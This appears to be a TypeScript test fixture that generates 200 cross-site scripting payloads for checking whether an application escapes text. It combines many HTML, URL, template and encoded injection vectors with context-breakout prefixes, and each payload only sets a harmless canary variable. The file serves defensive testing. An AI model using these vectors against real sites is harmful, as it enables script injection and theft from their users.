/** Set by any payload that runs. */
export const CANARY = '__mortise_ran'
/** What every payload holds, so that it is found again in a page, a paper or a list. */
export const MARK = 'xq7'

const run = (n: number) => `window.${CANARY}='${MARK}-${n}'`

/** Ways to have a script run, given the script. */
const TRIES: readonly ((js: string) => string)[] = [
  js => `<script>${js}</script>`,
  js => `<ScRiPt>${js}</sCrIpT>`,
  js => `<script src="data:text/javascript,${js}"></script>`,
  js => `<img src=x onerror="${js}">`,
  js => `<img/src=x/onerror=${js.replaceAll(' ', '')}>`,
  js => `<svg onload="${js}">`,
  js => `<svg><script>${js}</script></svg>`,
  js => `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
  js => `<svg><foreignObject><body onload="${js}">`,
  js => `<body onload="${js}">`,
  js => `<iframe srcdoc="<script>parent.${js.slice(7)}</script>"></iframe>`,
  js => `<iframe src="javascript:parent.${js.slice(7)}"></iframe>`,
  js => `<object data="javascript:${js}"></object>`,
  js => `<embed src="javascript:${js}">`,
  js => `<details open ontoggle="${js}"><summary>x</summary></details>`,
  js => `<input autofocus onfocus="${js}">`,
  js => `<select autofocus onfocus="${js}"></select>`,
  js => `<video><source onerror="${js}"></video>`,
  js => `<audio src=x onerror="${js}">`,
  js => `<marquee onstart="${js}">x</marquee>`,
  js => `<math><mtext><style><img src=x onerror="${js}"></style></mtext></math>`,
  js => `<template><img src=x onerror="${js}"></template>`,
  js => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  js => `<a href="javascript:${js}">x</a>`,
  js => `<form action="javascript:${js}"><button>x</button></form>`,
  js => `<button formaction="javascript:${js}">x</button>`,
  js => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  js => `<base href="javascript:${js}//">`,
  js => `<link rel="stylesheet" href="data:text/css,*{background:url(javascript:${js})}">`,
  js => `<style>@import 'javascript:${js}'</style>`,
  js => `javascript:${js}`,
  js => `data:text/html,<script>${js}</script>`,
  js => `{{constructor.constructor("${js}")()}}`,
  js => `\${${js}}`,
  js => `$t(ui.save, {"x":"${js}"}) {{x}} {{- ${js}}}`,
  js => `<%= ${js} %>`,
  js => `[x](javascript:${js})`,
  js => `&lt;img src=x onerror=&quot;${js}&quot;&gt;`,
  js => `&#60;script&#62;${js}&#60;/script&#62;`,
  js => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  js => `%3Cscript%3E${js}%3C/script%3E`,
  js => `＜script＞${js}＜/script＞`,
]
/** What stands before a try: the way out of where a text may have been put. */
const WAYS_OUT = ['', '"><', "'><", '</title><', '-->', ']]>', '</textarea>', '</style>', '</script>', '\u202e']

/** Two hundred texts, each of which would run, or put an element into the page, if it were ever taken for anything but a text. */
export const PAYLOADS: readonly string[] = Array.from({ length: 200 }, (_, n) => {
  const js = run(n)
  const way = WAYS_OUT[Math.floor(n / TRIES.length) * 2 + (n % 2)]!
  return `${way.replace(/<$/, '')}${TRIES[n % TRIES.length]!(js)}`
})
